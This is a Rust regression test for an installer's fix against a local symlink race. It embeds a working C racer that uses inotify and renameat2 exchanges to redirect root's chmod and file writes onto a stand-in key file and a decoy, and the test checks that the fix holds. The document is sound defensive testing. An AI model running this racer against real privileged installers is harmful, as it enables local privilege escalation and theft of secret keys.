//! Races by a local user against `sealbox-install` (issue 13, item 1): a user who can write
//! an ancestor of a custom `path` swaps every directory the installer creates there for a
//! symlink while the activation runs. Before the fix, `mkdir` then `chmod` by name let
//! root's chmod land on the symlink's target (here a stand-in for the host key file,
//! `age-keys.txt`, and a root-only decoy), which the user could then read.
//!
//! The racer is a small C program (built with `cc`) running as the test user (uid 1234,
//! `setpriv`) inside the test's mount namespace. It sleeps on inotify in its home; when a
//! directory it expects appears it swaps it at once, with `renameat2(RENAME_EXCHANGE)`
//! (one syscall), for a ready replacement (see [`Arm`]), and it swaps every other
//! directory that appears there (the installer's temporary directories) for a symlink to
//! the decoy directory. After every activation the test checks, as root,
//! that both decoys keep mode, owner and content; the racer reports each swap it made and
//! any decoy it managed to read.

mod common;
use common::*;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// How many activations race against the user.
const ROUNDS: usize = 100;

const RACER_C: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#define RENAME_EXCHANGE_ (1 << 1)
#define MAX 16

static int exchange(const char *a, const char *b) {
    return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE_) == 0;
}

/* racer HOME DECOY_DIR KEYS_FILE NAME... : swaps each NAME, once it exists, with the
   ready .evil-NAME (a symlink, or a directory whose x is a symlink); when that x points at
   a file, only once NAME/x exists. Every other new directory in HOME is swapped with a
   symlink to DECOY_DIR. Reports "swap NAME", "swap-temp NAME", "READ PATH". */
int main(int argc, char **argv) {
    if (argc < 5 || argc - 4 > MAX || chdir(argv[1]) != 0) return 2;
    const char *decoy_dir = argv[2], *keys = argv[3];
    char shadow[4096];
    snprintf(shadow, sizeof shadow, "%s/shadow", decoy_dir);
    int n = argc - 4, armed[MAX], after_x[MAX];
    ino_t fired[MAX];
    char name[MAX][256], evil[MAX][300], sub[MAX][300];
    for (int i = 0; i < n; i++) {
        snprintf(name[i], 256, "%s", argv[4 + i]);
        snprintf(evil[i], 300, ".evil-%s", name[i]);
        snprintf(sub[i], 300, "%s/x", name[i]);
        armed[i] = 0;
        fired[i] = 0;
    }
    int ifd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
    if (ifd < 0 || inotify_add_watch(ifd, ".", IN_CREATE) < 0) return 3;
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    unsigned long extra = 0;
    for (;;) {
        /* arm: the test's reset put a fresh .evil-NAME in place */
        for (int i = 0; i < n; i++) {
            struct stat st, x;
            if (armed[i]) continue;
            if (fired[i] && lstat(name[i], &st) == 0 && st.st_ino == fired[i]) continue;
            if (lstat(evil[i], &st) != 0) continue;
            char ex[320];
            snprintf(ex, sizeof ex, "%s/x", evil[i]);
            after_x[i] = S_ISDIR(st.st_mode) && stat(ex, &x) == 0 && S_ISREG(x.st_mode);
            fired[i] = 0;
            armed[i] = 1;
        }
        /* sleep in the kernel until a directory appears (a woken task runs at once, even
           on a busy machine), then swap it */
        struct pollfd pfd = {ifd, POLLIN, 0};
        char buf[8192] __attribute__((aligned(8)));
        ssize_t len = poll(&pfd, 1, 1) > 0 ? read(ifd, buf, sizeof buf) : 0;
        for (char *p = buf; len > 0 && p < buf + len;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            p += sizeof *ev + ev->len;
            if (!(ev->mask & IN_ISDIR) || !ev->len || !strncmp(ev->name, ".evil", 5) ||
                !strncmp(ev->name, ".moved", 6))
                continue;
            int known = -1;
            for (int i = 0; i < n; i++)
                if (!strcmp(ev->name, name[i])) known = i;
            if (known >= 0) {
                int i = known;
                struct stat st;
                if (!armed[i]) continue;
                /* when x matters, wait (spinning, up to ~2 ms) until root made it */
                for (int spin = 0; after_x[i] && spin < 200000 && lstat(sub[i], &st) != 0; spin++)
                    ;
                if (exchange(name[i], evil[i])) {
                    armed[i] = 0;
                    fired[i] = lstat(name[i], &st) == 0 ? st.st_ino : 1;
                    printf("swap %s\n", name[i]);
                }
                continue;
            }
            char link[64], moved[64];
            snprintf(link, sizeof link, ".evil-x%lu", ++extra);
            snprintf(moved, sizeof moved, ".moved%lu", extra);
            if (symlink(decoy_dir, link) != 0) continue;
            if (exchange(ev->name, link)) {
                rename(link, moved);
                printf("swap-temp %s\n", ev->name);
            } else {
                unlink(link);
            }
        }
        /* a won race shows as a readable decoy */
        const char *decoys[2] = {keys, shadow};
        static int readable[2];
        for (int d = 0; d < 2; d++) {
            int fd = open(decoys[d], O_RDONLY | O_NONBLOCK);
            if (fd >= 0) {
                char c[64];
                ssize_t r = read(fd, c, sizeof c);
                if (!readable[d]) printf("READ %s %zd\n", decoys[d], r);
                close(fd);
            }
            readable[d] = fd >= 0;
        }
    }
}
"#;

/// What an attack on a directory the installer creates swaps in.
#[derive(Clone, Copy, Debug)]
enum Arm {
    /// A symlink to the key file, swapped in right after `mkdir`: a chmod of the new
    /// directory by name lands on the key file.
    LinkToKeys,
    /// A directory whose `x` is a symlink to the key file, swapped in once `x` exists: a
    /// chmod of `…/x` by name lands on the key file.
    DirWithXToKeys,
    /// A directory whose `x` is a symlink to the decoy directory: everything done below
    /// `…/x` by name (placing the custom symlink `shadow`, removing what is there) lands
    /// in the decoy directory.
    DirWithXToDecoyDir,
}

/// Each round arms every directory the same way, in turn.
const ARMS: [Arm; 3] = [
    Arm::LinkToKeys,
    Arm::DirWithXToKeys,
    Arm::DirWithXToDecoyDir,
];
/// Directories the installer makes in the user's home per activation.
const DIRS: usize = 4;

/// The racer's process, stopped (by its PID) however the test ends.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// mode, owner, group and content of a file inside the namespace, read from the test
/// process; `None` when it is no longer a regular file.
fn probe(ns: &Ns, p: &Path) -> Option<(u32, u32, u32, Vec<u8>)> {
    let host = PathBuf::from(format!("/proc/{}/root{}", ns.pid(), p.display()));
    let md = std::fs::symlink_metadata(&host).ok()?;
    md.is_file().then(|| {
        (
            md.mode() & 0o7777,
            md.uid(),
            md.gid(),
            std::fs::read(&host).unwrap_or_default(),
        )
    })
}

#[test]
fn a_user_swapping_every_directory_the_installer_creates_never_gets_root_to_touch_a_decoy() {
    sealbox_testkit::require!(common::peers());
    if !need_root("the racer test needs root (mount namespaces, setpriv)") {
        return;
    }
    let started = Instant::now();
    let f = Fixture::new();
    let ns = &f.ns;
    let t = ns.t.clone();
    let json = f.enc("app.json", "json", br#"{"token": "tok-1"}"#);
    let home = t.join("home/alice");
    let decoy = t.join("decoy");
    ns.ok(&format!(
        "mkdir -p '{h}' && chown 1234:2345 '{h}' && mkdir -p -m 0700 '{d}' && printf 'root only\\n' > '{d}/shadow' && chmod 0600 '{d}/shadow'",
        h = home.display(),
        d = decoy.display()
    ));
    let names: Vec<String> = (0..DIRS).map(|k| format!("a{k}")).collect();
    let mut secrets = Vec::new();
    for (k, n) in names.iter().enumerate() {
        let name: &'static str = Box::leak(format!("s{k}").into_boxed_str());
        let mut s = e(name, &json, "json", "token");
        s.owner = Some("alice");
        s.path = Some(home.join(n).join("x/shadow").display().to_string());
        secrets.push(s);
    }
    // one directly in the home: its temporary directory is made there, for the racer
    let mut s = e("direct", &json, "json", "token");
    s.owner = Some("alice");
    s.path = Some(home.join("direct").display().to_string());
    secrets.push(s);
    let m = f.manifest(secrets, vec![], 2);
    let mf = m.write(ns.h(), "m.json");
    let keys = m.mount().join("age-keys.txt");
    // a clean first activation: the mount point and the real age-keys.txt exist
    let o = ns.install(&[&mf], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let shadow_before = probe(ns, &decoy.join("shadow")).unwrap();
    assert_eq!(probe(ns, &keys).unwrap().0, 0o600);

    // Before each round: remove what the last one made and ready the replacements.
    let reset = |arm: Arm| {
        let mut sh = vec![format!(
            "cd '{h}' && rm -rf a* direct .evil* .moved* .sealbox*",
            h = home.display()
        )];
        for n in &names {
            let evil = format!(".evil-{n}");
            sh.push(match arm {
                Arm::LinkToKeys => format!("ln -s '{}' {evil}", keys.display()),
                Arm::DirWithXToKeys => {
                    format!("mkdir {evil} && ln -s '{}' {evil}/x", keys.display())
                }
                Arm::DirWithXToDecoyDir => {
                    format!("mkdir {evil} && ln -s '{}' {evil}/x", decoy.display())
                }
            });
        }
        sh.push("chown -hR 1234:2345 .evil*".into());
        ns.ok(&sh.join(" && "));
    };

    // The racer: compiled here (every machine that links Rust has `cc`), run from the
    // namespace's tmpfs (the test's own directories are private to root).
    let src = ns.h().join("racer.c");
    std::fs::write(&src, RACER_C).unwrap();
    let bin = ns.h().join("racer");
    let cc = Command::new("cc")
        .args(["-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output();
    match cc {
        Ok(o) if o.status.success() => {}
        Ok(o) => panic!("cc racer.c: {}", stderr(&o)),
        Err(e) => {
            assert!(need_tool(&format!(
                "a C compiler (cc) builds the racer: {e}"
            )));
            return;
        }
    }
    let racer_bin = t.join("racer");
    ns.ok(&format!(
        "cp '{}' '{r}' && chmod 0755 '{r}'",
        bin.display(),
        r = racer_bin.display()
    ));
    let log = ns.h().join("racer.log");
    let mut racer = KillOnDrop(
        ns.nsenter()
            .args(["setpriv", "--reuid=1234", "--regid=2345", "--clear-groups"])
            .arg(&racer_bin)
            .arg(&home)
            .arg(&decoy)
            .arg(&keys)
            .args(&names)
            .stdout(std::fs::File::create(&log).unwrap())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap(),
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while !std::fs::read_to_string(&log).unwrap().starts_with("ready") {
        assert!(Instant::now() < deadline, "the racer did not start");
        assert!(racer.0.try_wait().unwrap().is_none(), "the racer died");
        std::thread::sleep(Duration::from_millis(20));
    }

    let mut changed = Vec::new();
    let mut failed = 0;
    let mut won = [0usize; ARMS.len()];
    for round in 0..ROUNDS {
        let arm = ARMS[round % ARMS.len()];
        reset(arm);
        // the racer arms itself within a few microseconds of seeing the replacements
        std::thread::sleep(Duration::from_millis(2));
        let o = ns.install_with(&["timeout", "-s", "KILL", "30"], "077", &[&mf], &[]);
        assert_ne!(o.status.code(), None, "round {round}: activation hung");
        if !o.status.success() {
            failed += 1;
        }
        let k = probe(ns, &keys);
        let s = probe(ns, &decoy.join("shadow"));
        let listing = ns.ls(&decoy);
        let decoy_mode = ns.stat(&decoy);
        let keys_ok = matches!(&k, Some((0o600, 0, 0, _)));
        if !keys_ok
            || s.as_ref() != Some(&shadow_before)
            || listing != ["shadow"]
            || decoy_mode != "directory|700|0|0"
        {
            won[round % ARMS.len()] += 1;
            changed.push(format!(
                "round {round} ({arm:?}): age-keys.txt {:?}, decoy {:?} (content {}), decoy directory {decoy_mode} holding {listing:?}",
                k.as_ref().map(|k| (format!("{:o}", k.0), k.1, k.2)),
                s.as_ref().map(|s| (format!("{:o}", s.0), s.1, s.2)),
                if s.as_ref().map(|s| &s.3) == Some(&shadow_before.3) {
                    "kept"
                } else {
                    "changed"
                }
            ));
            // put everything back so that each round is counted on its own
            ns.ok(&format!(
                "chmod 0600 '{k}' && chown 0:0 '{k}' && rm -rf '{d}' && mkdir -m 0700 '{d}' && printf 'root only\\n' > '{d}/shadow' && chmod 0600 '{d}/shadow'",
                k = keys.display(),
                d = decoy.display()
            ));
        }
    }
    drop(racer);
    let out = std::fs::read_to_string(&log).unwrap();
    let swaps = out.lines().filter(|l| l.starts_with("swap ")).count();
    let temp_swaps = out.lines().filter(|l| l.starts_with("swap-temp ")).count();
    let reads: Vec<&str> = out.lines().filter(|l| l.starts_with("READ")).collect();
    eprintln!(
        "races: {ROUNDS} activations in {:?}: the racer swapped {swaps} created directories and {temp_swaps} temporary ones; {failed} activations stopped; {} let root touch a decoy (by attack: {:?}); {} reads of a decoy",
        started.elapsed(),
        changed.len(),
        ARMS.iter().zip(won).collect::<Vec<_>>(),
        reads.len()
    );
    assert!(
        changed.is_empty() && reads.is_empty(),
        "{} of {ROUNDS} activations let root change a decoy for the user: {changed:#?}\nthe racer read: {reads:#?}",
        changed.len()
    );
    // The racer really raced: it swapped directories in most rounds (else this test
    // would pass without testing anything).
    assert!(
        swaps >= ROUNDS / 2,
        "the racer swapped only {swaps} directories in {ROUNDS} rounds"
    );
    // Without a racer the same manifest installs.
    ns.ok(&format!(
        "cd '{}' && rm -rf a* direct .evil* .moved* .sealbox*",
        home.display()
    ));
    let o = ns.install(&[&mf], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(ns.cat(&home.join("a0/x/shadow")), b"tok-1");
    assert_eq!(ns.cat(&home.join("direct")), b"tok-1");
}
